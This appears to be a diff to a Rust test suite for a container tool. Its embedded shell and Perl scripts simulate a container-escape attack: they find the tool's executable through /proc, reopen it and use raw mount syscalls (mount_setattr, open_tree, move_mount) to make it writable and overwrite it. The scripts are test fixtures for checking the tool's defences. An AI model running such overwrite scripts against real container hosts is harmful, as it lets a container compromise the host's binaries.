@@ -18,7 +18,7 @@ const NSENTER: Need = Need::Program("nsenter", "util-linux");
 const OVERWRITE: &str = r#"
 for i in $(seq 2000); do
     for p in /proc/[0-9]*; do
-        case $(readlink $p/exe) in */"$1"|/memfd:sealed*) exec 9<$p/exe && break 2;; esac
+        case $(readlink $p/exe) in */"$1"|/memfd:sealed*|/) exec 9<$p/exe && break 2;; esac
     done
 done
 rm "$2"
@@ -70,7 +70,15 @@ pub const ROWS: &[Row] = &[
             file.parent().expect("a directory").display(),
             file.display()
         );
-        run(world, &line).stdout_is("opened\nsame\n");
+        run(world, &line).stdout_is("opened\ntried\nsame\n");
+        // The attack works on a mount that is read-only, and attached.
+        let line = format!(
+            "cd {}; touch evil attached; unshare -m sh -c 'mount --bind attached attached && \
+             mount -o remount,bind,ro attached && perl {} evil attached'",
+            file.parent().expect("a directory").display(),
+            file.display()
+        );
+        run(world, &line).stdout_has("mount_setattr\n").stdout_has("written\n");
     })
     .root_only()
     .host_only(),
@@ -182,12 +190,13 @@ pub const ROWS: &[Row] = &[
 /// `$1` is the evil command, which is what it is entered with. Opens that, and tries to change the mount that it is on.
 const REMOUNT: &str = r#"
 use strict;
-my ($evil) = @ARGV;
+my ($evil, $attached) = @ARGV;
 my $exe;
-for (1 .. 2000) {
+open($exe, "<", $attached) if $attached;
+for ($exe ? () : 1 .. 2000) {
     for my $p (glob "/proc/[0-9]*") {
         my $to = readlink("$p/exe") // next;
-        if ($to =~ m{/ours$|memfd:sealed}) { open($exe, "<", "$p/exe") and last }
+        if ($to =~ m{/ours$|memfd:sealed|^/$}) { open($exe, "<", "$p/exe") and last }
     }
     last if $exe;
 }
@@ -202,13 +211,11 @@ print "mount_setattr\n" if syscall(442, $fd, $empty, 0x1000, $attr, 32) == 0;
 # open_tree(2) with OPEN_TREE_CLONE, then the same on the clone.
 my $tree = syscall(428, $fd, $empty, 0x1000 | 1);
 print "cloned\n" if $tree >= 0;
-# fspick(2) with FSPICK_EMPTY_PATH, then FSCONFIG_SET_FLAG "rw" and FSCONFIG_CMD_RECONFIGURE.
-my $context = syscall(433, $fd, $empty, 8);
-if ($context >= 0) {
-    syscall(431, $context, 0, "rw\0", 0, 0);
-    print "reconfigured\n" if syscall(431, $context, 7, 0, 0, 0) == 0;
-}
+# move_mount(2) to where it could be remounted.
+my $place = "/mnt\0";
+print "attached\n" if syscall(429, $fd, $empty, -100, $place, 4) == 0;
 open(my $out, ">>", "/proc/self/fd/$fd") and print "written\n";
+print "tried\n";
 "#;
 
 /// A copy of the tool enters a container that runs the tool itself.
